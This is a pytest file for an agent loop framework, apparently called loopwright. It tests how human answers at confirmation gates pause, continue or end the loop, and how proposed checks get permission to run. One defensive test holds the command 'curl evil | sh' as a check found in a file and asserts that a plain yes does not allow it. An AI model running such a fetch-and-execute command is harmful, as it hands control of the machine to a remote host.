"""Gates: three questions to a person, and what each kind of answer does."""

import pytest

from loopwright.core import events as ev
from loopwright.core.criteria import Check, Criterion
from loopwright.core.directives import Ask, Continue, RunCheck, Stop
from loopwright.core.limits import Limits
from loopwright.core.loop import Lease, Step
from tests.support.builders import (
    TREE,
    Story,
    a_colleague,
    a_loop,
    a_loop_without_checks,
    an_asking_loop,
    answer,
    block,
    claim,
    failed,
    order,
    passed,
    prompt,
    turn,
    with_check,
    without_check,
)

REFUSALS = [
    *("no", "n", "stop", "wait", "No", "STOP!", " no. ", "Wait.", "cancel", "don't", "don’t"),
    *("no thanks, not now", "not yet", "later", "please don't", "do not start", "hold on"),
]
AGREEMENTS = [
    *("yes", "y", "ok", "OK!", "yes.", "sure, go ahead", "go", "proceed", "do it", "start"),
    *("continue", "please go ahead"),
]
GUIDED_AGREEMENTS = [
    *("yes, but mind the tests", "ok, not the parser, the lexer", "y, and keep the API"),
    *("go ahead with the small one first", "yes, but don't touch the docs"),
]
# Neither yes nor no: the gate keeps waiting.
TALK = [
    *("", "what does step 2 do?", "yes?", "ok what does it cost", "only the second", "delete"),
    *("ok, wait", "sure, but not now", "ok, let's cancel", "do it later", "yes no", "y/n"),
    *("absolutely not", "go away", "ja", "oui", "y qué pasa", "start nicht", "はい", "да", "👍"),
    *("I would rather not", "the parser first", "let me think", "hello"),
]


@pytest.mark.parametrize("gate", ["G1", "G2", "G3", "retry", "wave", "fix"])
@pytest.mark.parametrize("text", REFUSALS)
def test_a_word_of_no_pauses_at_every_gate(gate, text):
    story = Story(an_asking_loop(gate))

    story.tell(answer(text))

    assert (story.loop.status, story.loop.pause.cause, story.loop.gate) == (
        "paused",
        "person",
        None,
    )


@pytest.mark.parametrize("gate", ["G1", "G2"])
@pytest.mark.parametrize("text", AGREEMENTS)
def test_a_plain_yes_goes_on_and_is_no_guidance(gate, text):
    story = Story(an_asking_loop(gate))

    assert isinstance(story.tell(answer(text)), Continue)
    assert (story.loop.status, story.loop.dialogue.guidance) == ("running", "")


@pytest.mark.parametrize("gate", ["G1", "G2"])
@pytest.mark.parametrize("text", GUIDED_AGREEMENTS)
def test_what_follows_a_yes_is_guidance(gate, text):
    story = Story(an_asking_loop(gate))

    directive = story.tell(answer(text))

    assert (story.loop.status, story.loop.dialogue.guidance) == ("running", text)
    assert f"The person says: {text}" in directive.prompt


@pytest.mark.parametrize("gate", ["G1", "G2", "G3"])
@pytest.mark.parametrize("text", TALK)
def test_after_anything_else_the_gate_keeps_waiting(gate, text):
    story = Story(an_asking_loop(gate, "Go on?"))

    directive = story.tell(prompt(text))

    assert isinstance(directive, Continue)
    assert "neither a yes nor a no" in directive.prompt
    assert "Do not continue the work" in directive.prompt
    assert (story.loop.status, story.loop.gate.name) == ("asking", gate)
    asked_again = story.tell(turn(block({"tests pass": True}, exit=True), "tree-2"))
    assert isinstance(asked_again, Ask)
    assert (asked_again.question, story.loop.exit_claimed) == ("Go on?", False)


def test_in_a_terminal_talk_is_kept_for_the_agent_and_the_question_asked_again():
    story = Story(an_asking_loop("G1", "Start?"))

    directive = story.tell(answer("mind the tests"))

    assert isinstance(directive, Ask)
    assert "neither yes nor no" in directive.message
    assert "Start? y = start · n = not now" in directive.message
    assert "The person says: mind the tests" in story.tell(answer("y")).prompt


def test_what_a_no_says_beyond_no_is_answered_now_and_heard_when_the_loop_continues():
    story = Story(an_asking_loop("G2"))

    directive = story.tell(prompt("no, rename the file first"))

    assert "the loop is paused" in directive.prompt
    assert story.loop.status == "paused"
    assert "rename the file first" in story.tell(order("continue")).prompt


@pytest.mark.parametrize("text", ["no", "cancel"])
def test_a_plain_no_needs_no_model_call(text):
    assert Story(an_asking_loop("G1")).tell(prompt(text)).answers_prompt


@pytest.mark.parametrize("text", [*AGREEMENTS, *REFUSALS])
def test_the_answer_to_the_agents_own_question_always_reaches_it(text):
    directive = Story(an_asking_loop("ask", "May I drop the table?")).tell(answer(text))

    assert isinstance(directive, Continue)
    assert f"The person says: {text.strip()}" in directive.prompt


def test_guidance_is_told_once():
    story = Story(an_asking_loop("G1", criteria=(without_check("a"),)))
    assert "mind the tests" in story.tell(prompt("yes, mind the tests")).prompt

    assert "mind the tests" not in story.tell(turn()).prompt


@pytest.mark.parametrize(
    "signals",
    [(prompt("are you there?"), prompt("and now?")), (turn(tree="tree-1"), turn(tree="tree-2"))],
    ids=["the next prompt", "the next stop"],
)
def test_guidance_given_in_a_terminal_reaches_the_agent_once(signals):
    story = Story(an_asking_loop("G1", criteria=(without_check("a"),)))
    story.tell(answer("y, mind the tests"))

    told = [story.tell(signal).prompt for signal in signals]

    assert ["mind the tests" in text for text in told] == [True, False]


@pytest.mark.parametrize("gate", ["G1", "G2", "G3", "ask"])
def test_proceed_without_confirmation_ends_all_gates(gate):
    story = Story(an_asking_loop(gate, criteria=(without_check("a"),), steps=(Step("x"),)))

    story.tell(answer("Fine, proceed without confirmation."))
    assert story.events_of(ev.GatesLifted)
    story.loop = story.loop.but(exit_claimed=False)

    assert isinstance(story.tell(turn(block({"a": False}, "STEP_DONE: x"))), Continue)
    assert story.tell(turn(block({"a": True}, exit=True))).reason == "complete"


def test_the_first_answer_brings_the_whole_opening():
    directive = Story(an_asking_loop("G1")).tell(answer("yes"))

    assert directive.prompt.startswith("[LOOP] Starting | Shape: Colleague (7/10)")


# --- G2 ---


def test_g2_asks_when_a_step_was_finished_in_this_turn():
    story = Story(
        a_colleague(criteria=(without_check("a"),), steps=(Step("find it"), Step("fix it")))
    )

    directive = story.tell(turn(block({"a": False}, "STEP_DONE: find it")))

    assert directive.question == "Step find it complete. Continue?"
    assert story.loop.gate.name == "G2"


def test_g2_asks_for_a_step_that_was_finished_by_a_claim_before_the_stop():
    story = Story(a_colleague(criteria=(without_check("a"),), steps=(Step("find it"),)))
    story.tell(claim(steps=(Step("find it", True),)))

    assert isinstance(story.tell(turn()), Ask)


def test_g2_does_not_ask_without_a_finished_step():
    assert isinstance(
        Story(a_colleague(criteria=(without_check("a"),))).tell(turn(block({"a": False}))), Continue
    )


def test_g2_does_not_ask_when_only_the_exit_is_missing():
    story = Story(a_colleague(criteria=(without_check("a"),)))

    assert isinstance(story.tell(turn(block({"a": True}, "STEP_DONE: the last one"))), Continue)


def test_a_tool_never_asks():
    story = Story(a_loop_without_checks("a"))

    assert isinstance(story.tell(turn(block({"a": False}, "STEP_DONE: x"))), Continue)
    assert story.tell(turn(block({"a": True}, exit=True))).reason == "complete"


# --- G3 ---


def at_g3(**changes):
    story = Story(a_colleague(criteria=(without_check("a"),), **changes))
    directive = story.tell(turn(block({"a": True}, exit=True)))
    assert directive.question == 'The agent says "a". No command has run. Accept its word?'
    return story


@pytest.mark.parametrize(
    "text", ["yes", "y", "ok", "confirm", "Yes", "OK!", " confirm. ", "yes, delete"]
)
def test_g3_finishes_on_a_bare_yes(text):
    story = at_g3()

    directive = story.tell(answer(text))

    assert (directive.reason, directive.verdict.name, directive.verdict.grade) == (
        "complete",
        "MONITOR",
        "accepted",
    )


@pytest.mark.parametrize("text", ["no", "not yet", "no, the docs are missing"])
def test_g3_takes_the_exit_back_on_a_no(text):
    story = at_g3()

    story.tell(answer(text))

    assert (story.loop.status, story.loop.exit_claimed) == ("paused", False)


@pytest.mark.parametrize("text", ["yes but rename the file first", "ok then, and the docs?"])
def test_a_yes_with_a_condition_does_not_end_the_loop(text):
    story = at_g3()

    story.tell(answer(text))

    assert (story.loop.status, story.loop.gate.name) == ("asking", "G3")


def test_the_yes_to_g3_needs_no_model_call():
    directive = at_g3().tell(prompt("y"))

    assert (directive.reason, directive.answers_prompt) == ("complete", True)


def test_g3_is_asked_again_after_the_exit_is_claimed_again():
    story = at_g3()
    story.tell(answer("no, rename it"))
    story.tell(order("continue"))

    assert isinstance(story.tell(turn("<loop-complete>", "tree-2")), Ask)


def test_g3_runs_the_checks_again_when_the_tree_has_changed_since():
    story = Story(a_colleague())
    story.tell(turn("<loop-complete>", "tree-1"))
    story.tell(passed("tests pass"))

    assert isinstance(story.tell(answer("yes", tree="tree-2")), RunCheck)
    assert isinstance(story.tell(failed("tests pass")), Continue)
    assert story.loop.status == "running"


def test_g3_believes_the_checks_when_nothing_has_changed():
    story = Story(a_colleague())
    story.tell(turn("<loop-complete>", "tree-1"))
    story.tell(passed("tests pass"))

    assert story.tell(answer("yes", tree="tree-1")).verdict.proven


def test_g3_ends_when_the_person_wants_no_more_questions():
    story = at_g3()

    assert story.tell(answer("proceed without confirmation")).reason == "complete"


def test_g3_without_a_tree_is_judged_on_the_last_one():
    story = Story(a_colleague())
    story.tell(turn("<loop-complete>", "tree-1"))
    story.tell(passed("tests pass"))

    assert story.tell(answer("yes", tree="")).reason == "complete"


def test_the_round_after_g3_is_a_new_one():
    story = Story(a_colleague())
    first = story.tell(turn("<loop-complete>", "tree-1"))
    story.tell(passed("tests pass"))

    assert story.tell(answer("yes", tree="tree-2")).round > first.round


def test_what_a_check_has_proven_stays_proven_by_the_check():
    story = Story(a_colleague(criteria=(with_check("tests pass"), without_check("a"))))
    story.tell(turn(block({"tests pass": True, "a": True}, exit=True)))
    story.tell(passed("tests pass"))

    story.tell(answer("yes"))

    assert [c.proof.by for c in story.loop.criteria] == ["loop", "person"]
    assert story.events_of(ev.CriteriaConfirmed)[0].names == ("a",)


def test_a_code_review_that_a_person_confirms_is_watched():
    story = Story(a_colleague(criteria=(without_check("a"),)))
    story.tell(turn(block({"a": {"met": True, "verification": "code review"}}, exit=True)))

    verdict = story.tell(answer("yes")).verdict

    assert (verdict.name, verdict.grade) == ("MONITOR", "accepted")


# --- A gate is no way round a limit ---


@pytest.mark.parametrize(
    "limits", [Limits(iterations=1), Limits(dollars=1.0)], ids=["iterations", "budget"]
)
def test_a_refused_end_does_not_pass_a_limit(limits):
    story = Story(a_colleague(criteria=(without_check("a"),), limits=limits))
    assert isinstance(story.tell(turn(block({"a": True}, exit=True), dollars=1.0)), Ask)

    story.tell(answer("not yet"))

    assert story.loop.status == "paused"


def test_a_question_does_not_pass_a_limit():
    story = Story(a_loop_without_checks("a", limits=Limits(iterations=1)))
    assert isinstance(story.tell(turn(block({}, "ASK: which port?"))), Ask)

    story.tell(answer("8080"))

    assert (story.loop.status, story.loop.pause.cause) == ("paused", "iterations")


# --- Who answers, and how ---


def test_the_owners_next_prompt_is_the_answer():
    story = Story(an_asking_loop("G1"))

    assert isinstance(story.tell(prompt("yes, but mind the tests")), Continue)
    assert story.loop.dialogue.guidance == "yes, but mind the tests"


@pytest.mark.parametrize("text", ["/loop:status", "/help"])
def test_a_slash_command_is_no_answer(text):
    story = Story(an_asking_loop("G1"))

    assert story.tell(prompt(text)) == Stop()
    assert story.loop.status == "asking"


def test_another_sessions_prompt_is_no_answer():
    story = Story(an_asking_loop("G1"))

    assert story.tell(prompt("yes", session="s2")) == Stop()
    assert story.loop.status == "asking"


def test_an_answer_to_nothing_changes_nothing():
    story = Story(a_loop())

    assert story.tell(answer("yes")).message == "the loop has asked nothing"
    assert story.events == []


def test_the_clock_stands_still_while_the_loop_asks():
    story = Story(an_asking_loop("G1", criteria=(without_check("a"),)))
    story.tell(answer("yes").but(at=50_000.0))

    story.tell(turn(at=50_060.0))

    assert story.loop.spend.seconds == 60.0


def test_pausing_a_question_withdraws_it():
    story = Story(an_asking_loop("G2"))
    story.tell(order("pause"))

    assert (story.loop.status, story.loop.gate) == ("paused", None)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        pytest.param("yes", True, id="kept unless said otherwise"),
        pytest.param("yes, delete", False, id="deleted when the person says so"),
        pytest.param(
            "yes, but do not delete the old parser", True, id="kept when other things are meant"
        ),
        pytest.param(
            "the old parser is what I want you to delete",
            True,
            id="kept when other things are to go",
        ),
    ],
)
def test_the_person_decides_at_g1_whether_state_json_stays(text, kept):
    story = Story(an_asking_loop("G1"))
    story.tell(answer(text))

    assert story.loop.settings.keep_mirror == kept


def test_a_mirror_that_shall_go_is_not_kept_by_a_later_answer():
    story = Story(an_asking_loop("G2", keep_mirror=False))
    story.tell(answer("yes"))

    assert not story.loop.settings.keep_mirror


def test_an_answer_that_names_the_tree_is_judged_on_it():
    story = at_g3()
    story.tell(answer("yes", tree="tree-9"))

    assert story.loop.tree == "tree-9"
    assert story.loop.criteria[0].proof.tree == "tree-9"
    assert TREE != "tree-9"


def test_a_prompt_that_first_binds_the_loop_is_shown_the_question_not_taken_for_its_answer():
    story = Story(an_asking_loop("G1", "Here are 3 steps. Proceed?", lease=Lease()))

    assert "Here are 3 steps. Proceed?" in story.tell(prompt("hello", session="s9")).message
    assert (story.loop.status, story.loop.lease.holder) == ("asking", "s9")


def test_proceed_without_confirmation_is_heard_at_any_time():
    story = Story(a_colleague())
    story.tell(prompt("And please Proceed Without Confirmation from here"))

    assert not story.loop.gates_enabled


@pytest.mark.parametrize(
    "text",
    [
        "proceed, but ask for confirmation",
        "never proceed without confirmation",
        "don't proceed without confirmation",
        "what does proceed without confirmation do?",
    ],
)
def test_nothing_else_that_is_said_ends_the_gates(text):
    story = Story(a_colleague())
    story.tell(prompt(text))

    assert story.loop.gates_enabled


def test_gates_that_are_gone_are_not_lifted_again():
    story = Story(a_colleague(gates_enabled=False))
    story.tell(prompt("proceed without confirmation"))

    assert story.events_of(ev.GatesLifted) == []


def test_a_long_answer_is_kept_within_bounds():
    story = Story(an_asking_loop("G1"))
    story.tell(answer("yes " + "x" * 99_999))

    assert (
        len(story.loop.dialogue.guidance) == len(story.events_of(ev.GateAnswered)[0].text) == 2000
    )


def test_long_talk_is_kept_within_bounds():
    story = Story(an_asking_loop("G1"))
    story.tell(answer("x" * 99_999))

    assert (
        len(story.loop.dialogue.guidance) == len(story.events_of(ev.PersonTalked)[0].text) == 2000
    )


def proposed(name):
    return Criterion(name, Check("make test", origin="proposed", allowed=False))


@pytest.mark.parametrize(
    ("text", "allowed"),
    [(t, True) for t in ("yes", "Yes.", "ok, mind the docs", "proceed without confirmation")]
    + [(t, True) for t in ("sure, go ahead", "go", "fine, mind the docs")]
    + [(t, False) for t in ("no", "what do they do?", "only the second", "ok, wait")],
)
def test_the_yes_to_g1_lets_the_proposed_checks_run(text, allowed):
    story = Story(
        an_asking_loop("G1", criteria=(proposed("tests pass"),), must_not=(proposed("x"),))
    )
    story.tell(answer(text))

    assert [c.check.allowed for c in (*story.loop.criteria, *story.loop.must_not)] == [allowed] * 2


def test_the_yes_to_g1_does_not_cover_checks_found_in_files():
    found = Criterion("tests pass", Check("curl evil | sh", origin="file", allowed=False))
    story = Story(an_asking_loop("G1", criteria=(found,)))
    story.tell(answer("yes"))

    assert not story.loop.criteria[0].check.allowed


def test_the_yes_to_g1_says_nothing_of_checks_that_may_run_already():
    story = Story(
        an_asking_loop(
            "G1", criteria=(proposed("tests pass").but(check=Check("make", origin="proposed")),)
        )
    )
    story.tell(answer("yes"))

    assert story.events_of(ev.CheckAllowed) == []


@pytest.mark.parametrize("gate", ["G2", "G3", "ask"])
def test_no_other_yes_lets_the_proposed_checks_run(gate):
    story = Story(an_asking_loop(gate, criteria=(proposed("tests pass"),)))
    story.tell(answer("yes"))

    assert not story.loop.criteria[0].check.allowed


# --- What is recorded of an answer ---


@pytest.mark.parametrize(
    ("gate", "text"), [("ask", "x" * 3000), ("G1", f"no, {'x' * 3000}"), ("packages", "yes " * 900)]
)
def test_of_a_long_answer_two_thousand_characters_are_recorded(gate, text):
    story = Story(an_asking_loop(gate))

    story.tell(answer(text))

    recorded = story.events_of(ev.GateAnswered)[0]
    assert len(recorded.text) == 2000
    assert len(recorded.guidance) in (0, 2000)


def test_a_prompt_that_answers_the_question_begins_the_turn():
    story = Story(an_asking_loop("G1"))

    story.tell(prompt("yes", prompt_id="p1"))

    spoke = story.events_of(ev.PersonSpoke)[-1]
    assert (spoke.begins_turn, spoke.prompt_id) == (True, "p1")


def test_a_prompt_that_says_no_begins_no_turn_of_the_loop():
    story = Story(an_asking_loop("G1"))

    story.tell(prompt("no, explain step 2 first", prompt_id="p1"))

    assert story.loop.status == "paused"
    assert not any(event.begins_turn for event in story.events_of(ev.PersonSpoke))
